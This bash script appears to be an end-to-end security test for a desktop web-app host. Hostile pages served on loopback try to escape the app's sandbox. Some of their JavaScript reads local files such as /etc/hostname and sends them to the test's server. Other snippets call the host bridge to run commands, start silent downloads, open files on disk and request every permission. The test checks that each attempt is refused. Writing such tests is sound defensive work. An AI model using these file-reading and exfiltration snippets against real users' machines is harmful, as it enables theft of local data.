#!/usr/bin/env bash
# Only the application's own documents reach the host. A packaged application
# with the real engine shows third-party content from a web server on the
# loopback interface: a frame of another site inside its page, and a web page
# it navigates to. Both try what an advertisement would: a silent download
# that a new window then opens from the disk, pages on disk by guessed paths,
# a data: pop-up that reads local files, and every browser permission. Nothing
# may be written, run or read, and no window of the application may show a
# file from the disk. A download the user asks for goes through the save
# dialog; a million-deep message leaves the host answering.
# Usage: bash app_boundary_e2e.sh BUILD_DIR SOURCE_DIR
source "$(dirname "$0")/../e2e/e2e_common.sh"
command -v python3 >/dev/null || { echo "python3 is needed for the web server"; exit 1; }

mkdir -p "$T/marks" "$T/remote" "$T/bin" "$HOME/Downloads"
MARKS="$T/marks"
# The user's download folder, as the desktop names it.
printf 'XDG_DOWNLOAD_DIR="$HOME/Downloads"\n' >"$XDG_CONFIG_HOME/user-dirs.dirs"
printf '#!/bin/sh\nprintf "%%s\\n" "$*" >>"%s"\n' "$T/opened.log" >"$T/bin/xdg-open"
chmod +x "$T/bin/xdg-open"
export PATH="$T/bin:$PATH"

# The web server. The attacking pages report what they reached through
# /report?TEXT (as an image, which needs no permission), one line of $T/reports.
start_web_server "$T/remote" "$T/reports"
touch "$T/reports"

# What an attacking document does once it runs with the host: reports it,
# runs a command and writes a file every way it can.
take_host() {
    cat <<JS
  new Image().src = "$REMOTE/report?LEAK-$1-qvx=" + typeof window.qvx;
  try { qvx.shell.command({command: "touch $MARKS/$1-command"}); } catch (e) {}
  try { qvx.files.writeTextFile({filePath: "$MARKS/$1-write.txt", contents: "x"}); } catch (e) {}
  try { chrome.webview.postMessage({id: 70003, uuid: "c", data: {command: "touch $MARKS/$1-raw"}}); } catch (e) {}
JS
}
# A page on disk by a path the attacker can guess, and the page it downloads.
printf '<!doctype html><title>E2E disk</title><script>\n%s</script>\n' "$(take_host disk)" >"$T/disk.html"
printf '<!doctype html><title>E2E chain</title><script>\n%s</script>\n' "$(take_host chain)" >"$T/remote/chain.html"
cp "$T/remote/chain.html" "$T/remote/drop.html"

# silent_download NAME: a script's click on a hidden download link, no user's gesture.
silent_download() {
    printf 'const a = document.createElement("a"); a.href = "/%s"; a.download = "%s";' "$1" "$1"
    printf ' document.body.appendChild(a); a.click();'
}

# Reading local files and sending them away, as a document of any origin may try.
STEAL='for (const f of ["file:///etc/hostname", "file:///beside/remote.txt", "file://'"$T"'/disk.html"])
    fetch(f).then((r) => r.text()).then((t) => new Image().src = "'"$REMOTE"'/report?LEAK-read-" + encodeURIComponent(f + ":" + t.slice(0, 20)), () => {});'

# Permissions, each reported with its answer (notifications are refused by
# WebKit itself without a user's gesture, so they tell nothing here).
ASK='const tell = (k) => new Image().src = "'"$REMOTE"'/report?" + encodeURIComponent(k);
  navigator.geolocation.getCurrentPosition(() => tell(WHO + "-geolocation=granted"), (e) => tell(WHO + "-geolocation=" + e.code));
  if (navigator.mediaDevices) navigator.mediaDevices.getUserMedia({audio: true, video: true}).then(
    () => tell(WHO + "-media=granted"), (e) => tell(WHO + "-media=" + e.name));
  else tell(WHO + "-media=none");'

# The advertisement inside the application's page.
cat >"$T/remote/ad.html" <<HTML
<!doctype html><html><body><script>
  const WHO = "ad";
  $ASK
  $STEAL
  $(silent_download chain.html)
  setTimeout(() => {
    for (const f of ["file://$HOME/chain.html", "file://$HOME/Downloads/chain.html", "file://$T/disk.html"])
      window.open(f);
    tell("ad-opened");
    location.href = "file://$T/disk.html";
  }, 2500);
</script></body></html>
HTML

# The web page the application navigates to, and its data: pop-up.
POPUP="<script>const tell = (k) => new Image().src = '$REMOTE/report?' + encodeURIComponent(k); tell('popup-loaded');
  ${STEAL//$'\n'/ }
  setTimeout(() => { tell('popup-moving'); location.href = 'file://$HOME/Downloads/drop.html'; }, 1000);
  setTimeout(() => { location.href = 'file://$T/disk.html'; }, 2000);</script>"
POPUP_JSON=$(python3 -c 'import json, sys, urllib.parse; print(json.dumps("data:text/html," + urllib.parse.quote(sys.argv[1])))' "$POPUP")
cat >"$T/remote/remote.html" <<HTML
<!doctype html><html><head><title>E2E remote</title></head><body><script>
  const WHO = "remote";
  $ASK
  tell("remote-qvx=" + typeof window.qvx);
  $STEAL
  $(silent_download drop.html)
  setTimeout(() => tell("remote-popup=" + String(window.open($POPUP_JSON))), 1500);
</script>
<a href="/user.txt" download="user.txt" style="display: block; width: 100vw; height: 100vh">download</a>
</body></html>
HTML
echo "asked for by the user" >"$T/remote/user.txt"

ID=norvane-boundary
app=$(pack_app boundary "[App]\nID=$ID\nName=Boundary E2E\nDirName=webapp\nIndexHtml=boundary.html\nDynamicAppTitle=1\n") || exit 1
BESIDE="$(dirname "$app")/beside"
mkdir "$BESIDE"
echo "$REMOTE" >"$BESIDE/remote.txt"

open_mode() {
    echo "$1" >"$BESIDE/mode.txt"
    start "$1" "$app"
}

# reported TEXT [SECONDS]: waits until a report line starts with TEXT.
reported() {
    local _
    for _ in $(seq 1 $((${2:-15} * 10))); do
        grep -q "^$1" "$T/reports" && return 0
        sleep 0.1
    done
    return 1
}

# save_dialog NAME SITE: waits for the save dialog of a download of NAME from
# SITE; sets DIALOG to its window.
save_dialog() {
    local _
    for _ in $(seq 1 100); do
        DIALOG=$(xdotool search --name "^Save “$1” from $2\$" 2>/dev/null | head -n1)
        [ -n "$DIALOG" ] && return 0
        sleep 0.1
    done
    return 1
}

# nothing_reached WHAT: no mark, no leak, no file written, no window of a page on disk.
nothing_reached() {
    local made
    made=$(ls -A "$MARKS")
    [ -z "$made" ] || fail "$1: a page reached the host, it made: $made"
    grep '^LEAK' "$T/reports" | sed "s/^/FAIL: $1: /" | head -5
    grep -q '^LEAK' "$T/reports" && FAILS=$((FAILS + 1))
    made=$(find "$HOME" "$T/cwd" -name 'chain.html' -o -name 'drop.html' | head -3)
    [ -z "$made" ] || fail "$1: a download was written without the user: $made"
    xdotool search --name '^E2E (disk|chain)' >/dev/null 2>&1 && fail "$1: a page from the disk was shown"
}

# A frame of another site: downloads, opens pages on disk, asks for permissions.
open_mode frame
if wait_title "$PID" "E2E boundary frame;done" 30; then
    reported ad-opened 15 || fail "the frame did not run to its end: $(paste -sd' ' "$T/reports")"
    sleep 2
    grep -q "^ad-geolocation=1" "$T/reports" || fail "the frame's permission: $(grep '^ad-' "$T/reports" | paste -sd' ')"
    grep -q '^ad-media=granted' "$T/reports" && fail "the frame got the camera and microphone"
    grep -q "refused a download of .*chain.html" "$T/out-frame" ||
        fail "the frame's download was not refused: $(head -c 1500 "$T/out-frame")"
    nothing_reached frame
else
    fail "the page with the frame did not load: $TITLE; output: $(head -c 1500 "$T/out-frame")"
fi
stop "$PID"

# A web page the application navigated to, with its data: pop-up.
: >"$T/reports"
open_mode navigate
if reported remote-popup= 30; then
    grep -q '^remote-qvx=undefined' "$T/reports" || fail "the web page found the host: $(grep remote-qvx "$T/reports")"
    grep -q "^remote-geolocation=1" "$T/reports" ||
        fail "the web page's permission: $(grep '^remote-' "$T/reports" | paste -sd' ')"
    grep -q '^remote-media=granted' "$T/reports" && fail "the web page got the camera and microphone"
    reported popup-moving 15 || fail "the data: pop-up did not run: $(paste -sd' ' "$T/reports")"
    sleep 2
    nothing_reached navigate
    # The user's own click on the web page's download link asks, naming the site.
    w=$(windows "$PID" | awk '$2 == "E2E" && $3 == "remote" { print $1; exit }')
    if [ -n "$w" ]; then
        xdotool windowactivate --sync "$w" >/dev/null 2>&1 || true
        xdotool mousemove --window "$w" 200 150 click 1
        save_dialog "user.txt" "$REMOTE" || fail "the user's download from the web page did not ask: $(grep -a download "$T/out-navigate" | tail -3)"
        xdotool key Escape
    else
        fail "no window of the web page: $(titles "$PID" | paste -sd'|')"
    fi
else
    fail "the web page did not run: $(paste -sd' ' "$T/reports"); output: $(head -c 1500 "$T/out-navigate")"
fi
stop "$PID"

# A relaunch for a page on disk shows the normal start page, with one line of explanation.
echo permission >"$BESIDE/mode.txt"
start relaunch "$app" "$ID" "file://$T/disk.html"
if wait_title "$PID" "E2E boundary " 30; then
    grep -q "is not a page of the application" "$T/out-relaunch" || fail "the refused start page was not named"
else
    fail "a relaunch for a page on disk showed no page: $TITLE"
fi
stop "$PID"
# So does one whose page is not an address at all.
start relaunch-name "$app" "$ID" "boundary.html"
if wait_title "$PID" "E2E boundary " 30; then
    grep -q "is not a page of the application" "$T/out-relaunch-name" || fail "the start page \"boundary.html\" was not named"
else
    fail "a relaunch for \"boundary.html\" showed no page: $TITLE"
fi
stop "$PID"

# A page found nowhere gets the engine's error page; the extra script reports
# the text of that untitled document. It carries the bridge: asked to close,
# it agrees.
open_mode missing
if wait_title "$PID" "E2E untitled " 20; then
    grep -q 'file:///nowhere.html' <<<"$TITLE" || fail "the error page does not name the address: $TITLE"
    if close_page "$PID"; then
        expect_exit "close request on the error page" "$PID" 0 20
    else
        fail "no error page window to close"
    fi
else
    fail "no error page for a page found nowhere: $TITLE; output: $(head -c 2000 "$T/out-missing")"
fi
stop "$PID"

# The application's own page gets its permissions without a prompt.
open_mode permission
if wait_title "$PID" "E2E boundary .*;done" 30; then
    [ "$TITLE" = "E2E boundary notification=granted;geolocation=2;done" ] ||
        [ "$TITLE" = "E2E boundary notification=granted;geolocation=position;done" ] ||
        fail "the application's own permission: $TITLE"
else
    fail "the permission page did not report: $TITLE"
fi
stop "$PID"

# A download the user starts: the save dialog names the file and its site,
# and writes where the user says.
open_mode download
if wait_title "$PID" "E2E boundary download;done" 30 && w=$(page_window "$PID"); then
    xdotool windowactivate --sync "$w" >/dev/null 2>&1 || true
    xdotool mousemove --window "$w" 200 150 click 1
    if save_dialog "saved.txt" "the application"; then
        # It starts in the download folder: a bare name is saved there.
        xdotool windowactivate --sync "$DIALOG" >/dev/null 2>&1 || true
        sleep 0.5
        xdotool key ctrl+a
        xdotool type "by-user.txt"
        xdotool key Return
        for _ in $(seq 1 100); do [ -s "$HOME/Downloads/by-user.txt" ] && break; sleep 0.1; done
        [ "$(cat "$HOME/Downloads/by-user.txt" 2>/dev/null)" = "saved by the user" ] ||
            fail "the download was not written where the user said: $(ls -la "$HOME/Downloads")"
    else
        fail "no save dialog for the user's download: $(xdotool search --onlyvisible --name . getwindowname %@ 2>/dev/null | paste -sd'|')"
    fi
else
    fail "the download page did not load: $TITLE"
fi
stop "$PID"

# A million-deep message: refused, and the host still answers.
open_mode deep
if wait_title "$PID" "E2E boundary .*;done" 60; then
    [ "$TITLE" = "E2E boundary hello=2022.5;done" ] || fail "after a million-deep message: $TITLE"
else
    fail "after a million-deep message: $TITLE; output: $(tail -c 1500 "$T/out-deep")"
fi
stop "$PID"

finish
